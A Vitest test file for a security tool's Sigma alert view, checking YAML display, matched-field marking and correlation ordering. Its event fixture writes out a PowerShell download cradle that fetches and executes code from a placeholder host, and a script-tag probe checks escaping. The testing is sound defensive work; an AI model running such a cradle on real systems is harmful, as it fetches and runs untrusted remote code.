// A Sigma alert's detail: its rule's YAML (collapsed, shown as text even when it holds a script tag), the
// events with the fields the rule reads first and marked, a correlation's members numbered in time order,
// and, when the rule is gone, a plain statement that it is no longer loaded while the rest still works.

import { flushPromises, mount } from '@vue/test-utils'
import { beforeEach, describe, expect, it } from 'vitest'
import type { Alert } from '../../src-main/common/domain'
import { CairnError } from '../../src-main/common/errors'
import type { StoredEvent } from '../../src-main/common/event'
import AlertsView from '../../src-renderer/features/alerts/AlertsView.vue'
import { fieldsMatchedFirst } from '../../src-renderer/features/alerts/matchedFields'
import type { FakeTransport } from './support/fakeTransport'
import { makeAlert, makeCase, T0 } from './support/fixtures'
import { makeRuleDetail } from './support/ruleFixtures'
import { openCase, setupBackend } from './support/setup'
import type { TestBackend } from './support/setup'

const SIGMA_ALERT = makeAlert({
  id: 'a-sigma',
  engine: 'sigma',
  rule: { id: 'rule-loaded', title: 'PowerShell download cradle' },
  title: 'PowerShell download cradle on WS-07'
})

function windowsEvent(position: number): StoredEvent {
  return {
    id: position + 1,
    timestamp: T0 + position * 60_000,
    fields: {
      'host.name': 'WS-07',
      'process.command_line': `powershell -c IEX (New-Object Net.WebClient).DownloadString('http://x/${position}')`,
      'user.name': 'alice'
    },
    extra: { CommandLine: 'powershell -c IEX …', EventID: 1, Image: 'C:\\Windows\\powershell.exe' },
    raw: `{"EventID":1,"n":${position}}`,
    provenance: { evidenceId: 'ev-1', line: position + 1, offset: position * 300 }
  }
}

let backend: TestBackend
let transport: FakeTransport

async function openSigmaAlert() {
  const view = mount(AlertsView, { global: { plugins: [backend.pinia] } })
  await flushPromises()
  await view.find('[data-testid="alert-row"]').trigger('click')
  await flushPromises()
  return view.find('[data-testid="alert-detail"]')
}

describe('Sigma alert detail', () => {
  beforeEach(() => {
    backend = setupBackend()
    transport = backend.transport
    transport
      .answer('alerts.list', () => [SIGMA_ALERT])
      .answer('detect.runs', () => [])
      .answer('alerts.get', () => ({ ...SIGMA_ALERT, eventRefs: [] }))
      .answer('alerts.events', ({ offset = 0 }) => ({
        total: 3,
        offset,
        events: [0, 1, 2].map(windowsEvent)
      }))
      .answer('alerts.setStatus', ({ status }) => ({ ...SIGMA_ALERT, status }) as Alert)
      .answer('rules.get', () => makeRuleDetail())
    openCase(makeCase())
  })

  it("shows the rule's YAML collapsed, as text, even when it holds a script tag", async () => {
    const detail = await openSigmaAlert()

    expect(transport.callsTo('rules.get')).toEqual([{ ruleId: 'rule-loaded' }])
    const yaml = detail.find('[data-testid="rule-yaml"]')
    expect(yaml.attributes('open')).toBeUndefined()
    const text = yaml.find('[data-testid="rule-yaml-text"]')
    expect(text.text()).toContain('description: <script>alert(1)</script>')
    expect(text.element.children).toHaveLength(0)
    expect(detail.find('script').exists()).toBe(false)
  })

  it('lists the fields the rule reads first in each event, marked', async () => {
    const detail = await openSigmaAlert()

    expect(detail.find('[data-testid="alert-events-heading"]').text()).toBe('Matching events · 3 events')
    const events = detail.findAll('[data-testid="rule-event"]')
    expect(events).toHaveLength(3)
    const names = events[0].findAll('[data-testid="rule-event-field"] th').map((cell) => cell.text())
    expect(names.slice(0, 2)).toEqual(['process.command_line', 'CommandLine'])
    const marked = events[0].findAll('mark').map((mark) => mark.text())
    expect(marked).toEqual([windowsEvent(0).fields['process.command_line'], 'powershell -c IEX …'])
    expect(events[0].findAll('.event-field--matched')).toHaveLength(2)
    expect(events[0].text()).toContain('read by rule')
    // Plain detections are not numbered: only a correlation's members form a sequence.
    expect(detail.find('[data-testid="rule-event-number"]').exists()).toBe(false)
  })

  it("numbers a correlation's member events in time order", async () => {
    // A correlation names its group-by fields; the backend maps none, and they are event fields by name.
    transport.answer('rules.get', () =>
      makeRuleDetail({ kind: 'correlation', fields: ['user.name'], eventFields: [] })
    )
    const detail = await openSigmaAlert()

    expect(detail.find('[data-testid="alert-events-heading"]').text()).toBe(
      'Member events, in time order · 3 events'
    )
    const list = detail.find('[data-testid="rule-event-list"]')
    expect(list.element.tagName).toBe('OL')
    expect(detail.findAll('[data-testid="rule-event-number"]').map((number) => number.text())).toEqual([
      '1.',
      '2.',
      '3.'
    ])
    expect(detail.findAll('[data-testid="rule-event"] time').map((time) => time.text())).toEqual([
      '2026-03-14 03:12:44 UTC',
      '2026-03-14 03:13:44 UTC',
      '2026-03-14 03:14:44 UTC'
    ])
    expect(detail.find('[data-testid="rule-event"] .event-field--matched th').text()).toBe('user.name')
  })

  it('says the rule is no longer loaded when it is gone, and the alert still works', async () => {
    transport.answer('rules.get', ({ ruleId }) => {
      throw new CairnError('NOT_FOUND', `no loaded rule has the id ${ruleId}`)
    })
    const detail = await openSigmaAlert()

    expect(detail.find('[data-testid="alert-rule-missing"]').text()).toContain('no longer loaded')
    expect(detail.find('[data-testid="rule-yaml"]').exists()).toBe(false)
    expect(detail.findAll('[data-testid="rule-event"]')).toHaveLength(3)
    await detail.find('[data-testid="alert-start"]').trigger('click')
    await flushPromises()
    expect(transport.callsTo('alerts.setStatus')).toEqual([
      { caseId: 'case-1', alertId: 'a-sigma', status: 'in_progress' }
    ])
  })

  it('does not ask for a rule for alerts of other engines', async () => {
    transport
      .answer('alerts.list', () => [makeAlert()])
      .answer('alerts.get', () => ({ ...makeAlert(), eventRefs: [] }))
    const detail = await openSigmaAlert()

    expect(transport.callsTo('rules.get')).toEqual([])
    expect(detail.find('[data-testid="alert-rule"]').exists()).toBe(false)
    expect(detail.find('[data-testid="alert-events-table"]').exists()).toBe(true)
  })
})

describe('fieldsMatchedFirst', () => {
  it("puts the rule's fields first in the rule's order, matching keys regardless of case", () => {
    const entries = fieldsMatchedFirst(windowsEvent(0), ['image', 'user.name'])
    expect(entries.map((entry) => [entry.name, entry.matched])).toEqual([
      ['Image', true],
      ['user.name', true],
      ['CommandLine', false],
      ['EventID', false],
      ['host.name', false],
      ['process.command_line', false]
    ])
  })
})
